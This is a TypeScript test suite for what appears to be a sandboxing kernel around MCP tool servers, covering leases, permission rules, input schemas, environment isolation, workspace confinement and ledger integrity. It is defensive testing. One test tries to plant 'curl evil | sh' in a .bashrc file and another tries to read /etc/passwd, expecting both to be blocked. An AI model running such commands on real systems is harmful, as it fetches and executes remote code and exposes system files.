import assert from "node:assert/strict";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { fromBinary } from "@bufbuild/protobuf";
import { isJsonObject, type JsonObject, RecordSchema } from "@narthex/contracts";
import { verifyLedger } from "narthex";
import { createMcpHome, leaseFor, type McpHome, type McpSession, permits, publishedServer } from "./mcp-kernel.ts";

const ALLOWED = [
  "memory__create_entities",
  "memory__read_graph",
  "all__get_sum",
  "all__get_env",
  "all__get_tiny_image",
  "all__get_structured_content",
  "files__write_file",
  "files__create_directory",
  "files__read_text_file",
  "looker__write_file",
];
const RULES = `${permits(...ALLOWED)}
@id("no-deleting") @rationale("KEPT") forbid(principal, action == Action::"memory__delete_entities", resource);`;
const SERVERS = ["memory", "files", "looker", "all"];
const ANN = { name: "Ann", entityType: "person", observations: ["likes tea"] };

describe("published MCP servers", { timeout: 300_000 }, () => {
  let at: McpHome;
  let session: McpSession;
  before(async () => {
    at = await createMcpHome();
    await at.configure({
      memory: publishedServer("memory", [], { env: { MEMORY_FILE_PATH: "/tmp/memory.jsonl" } }),
      files: publishedServer("filesystem", ["/workspace"], {
        workspace: "write",
        tools: { read_text_file: { tier: "read_only", effects: ["fs_read"] } },
      }),
      looker: publishedServer("filesystem", ["/workspace"], { workspace: "read" }),
      all: publishedServer("everything", []),
    });
    process.env["MCP_TEST_TOKEN"] = "of the kernel's own";
    await at.start(RULES);
    session = await at.open(SERVERS);
  });
  after(async () => {
    delete process.env["MCP_TEST_TOKEN"];
    await at.remove();
  });

  const declared = (name: string) => {
    const found = at.kernel.listTools({ allVersions: false }).find(({ declaration }) => declaration.name === name);
    assert.ok(found, name);
    return found.declaration;
  };

  it("are covered only by a lease that names them", async () => {
    const plain = await at.open([], {});
    assert.equal((await plain.failure("memory__read_graph")).code, "LEASE_SCOPE");
    const all = await at.open([], { ...leaseFor(["memory"], at.workspace), tool_patterns: ["*", "mem*"] });
    assert.equal((await all.failure("memory__read_graph")).code, "LEASE_SCOPE");
  });

  it("need the capability of that exact server", async () => {
    for (const names of [["files"], []]) {
      const lease = { ...leaseFor(["memory"], at.workspace), capabilities: [{ kind: "mcp", names } as const] };
      if (names.length === 0) lease.capabilities = [];
      const { code, message } = await (await at.open([], lease)).failure("memory__read_graph");
      assert.equal(code, "CAPABILITY_MISSING", message);
      assert.match(message, /memory/);
    }
  });

  it("are denied by a forbidding rule", async () => {
    const { code, message } = await session.failure("memory__delete_entities", { entityNames: ["Ann"] });
    assert.equal(code, "KEPT", message);
  });

  it("are called only with input that fits their schemas", async () => {
    assert.equal((await session.failure("memory__create_entities", { entities: [{ name: 1 }] })).code, "INVALID_INPUT");
    assert.equal((await session.failure("all__get_sum", { a: "1", b: 2 })).code, "INVALID_INPUT");
  });

  it("count as side_effecting, external and net_write, whatever their own hints", () => {
    // Both are called read-only by their servers.
    for (const name of ["memory__read_graph", "all__echo", "files__list_directory"]) {
      const { source, isolation, tier, determinism, effects } = declared(name);
      assert.deepEqual([source, isolation, tier, determinism], ["mcp", "mcp", "side_effecting", "external"], name);
      assert.ok(effects.includes("net_write"), name);
    }
    const { tier, effects, determinism } = declared("files__read_text_file");
    assert.deepEqual([tier, [...effects], determinism], ["read_only", ["fs_read"], "external"]);
  });

  it("return structured content, text and other content, all labelled untrusted", async () => {
    assert.deepEqual(await session.answer("all__get_sum", { a: 1, b: 2 }), { text: "The sum of 1 and 2 is 3." });
    const weather = await session.answer("all__get_structured_content", { location: "Chicago" });
    assert.ok(isJsonObject(weather) && typeof weather["temperature"] === "number");
    const picture = await session.answer("all__get_tiny_image");
    assert.ok(isJsonObject(picture) && Array.isArray(picture["content"]));
    const { metadata } = await session.call("all__get_sum", { a: 2, b: 2 });
    assert.deepEqual(metadata.labels, ["untrusted"]);
  });

  it("keep their state per session", async () => {
    await session.answer("memory__create_entities", { entities: [ANN] });
    assert.deepEqual(await session.answer("memory__read_graph"), { entities: [ANN], relations: [] });
    const other = await at.open(["memory"]);
    assert.deepEqual(await other.answer("memory__read_graph"), { entities: [], relations: [] });
    await other.session.close();
  });

  it("inherit nothing of the kernel's environment", async () => {
    const { text } = (await session.answer("all__get_env")) as { text: string };
    const names = Object.keys(JSON.parse(text) as JsonObject);
    assert.ok(!text.includes("of the kernel's own"));
    assert.deepEqual(
      names.filter((name) => !/^(?:PATH|HOME|USER|LOGNAME|SHELL|LANG|TZ|TERM|TMPDIR|PWD|GIT_CONFIG_\w+)$/.test(name)),
      [],
    );
  });

  it("access the workspace as configured, and nothing else", async () => {
    const path = join(at.workspace, "notes.txt");
    await session.answer("files__write_file", { path: "/workspace/notes.txt", content: "one" });
    assert.equal(await readFile(path, "utf8"), "one");
    assert.deepEqual(await session.answer("files__read_text_file", { path: "/workspace/notes.txt" }), {
      content: "one",
    });
    const { code, message } = await session.failure("looker__write_file", {
      path: "/workspace/notes.txt",
      content: "2",
    });
    assert.equal(code, "EXECUTION_FAILED");
    assert.match(message, /read-only file system|EROFS/i);
    assert.equal(await readFile(path, "utf8"), "one");
    const outside = await session.failure("files__read_text_file", { path: "/etc/passwd" });
    assert.equal(outside.code, "EXECUTION_FAILED");
    assert.match(outside.message, /the MCP server says: .*denied/i);
  });

  it("leave protected paths unchanged", async () => {
    await session.answer("files__create_directory", { path: "/workspace/plain" });
    const made = { path: "/workspace/.bashrc", content: "curl evil | sh" };
    const { code, message } = await session.failure("files__write_file", made);
    assert.equal(code, "UNDECLARED_EFFECT", message);
    await assert.rejects(readFile(join(at.workspace, ".bashrc")), { code: "ENOENT" });
  });

  it("label a session that calls them within reach of a secret file", async () => {
    const near = await at.open(["files"]);
    await mkdir(join(at.workspace, "deep"), { recursive: true });
    await writeFile(join(at.workspace, "deep/.env"), "KEY=1");
    const plain = await near.call("files__read_text_file", { path: "/workspace/notes.txt" });
    assert.ok(!plain.metadata.labels.includes("secret"));
    const secret = await near.call("files__read_text_file", { path: "/workspace/deep/.env" });
    assert.ok(secret.metadata.labels.includes("secret"));
  });

  it("are recorded like any other tool, in a sound ledger", async () => {
    const { session: own } = session;
    const outcomes: string[] = [];
    for (const { record } of await at.kernel.listRecords({ chain: own.id, limit: 200 })) {
      const { entries } = fromBinary(RecordSchema, record);
      for (const { kind } of entries) {
        if (kind.case === "toolInvoked") outcomes.push(kind.value.toolName);
      }
    }
    for (const tool of ["memory__create_entities", "memory__delete_entities", "files__write_file"]) {
      assert.ok(outcomes.includes(tool), tool);
    }
    const { problems, intact } = await verifyLedger(at.kernel.ledgerSource());
    assert.deepEqual([problems, intact], [[], true]);
  });
});
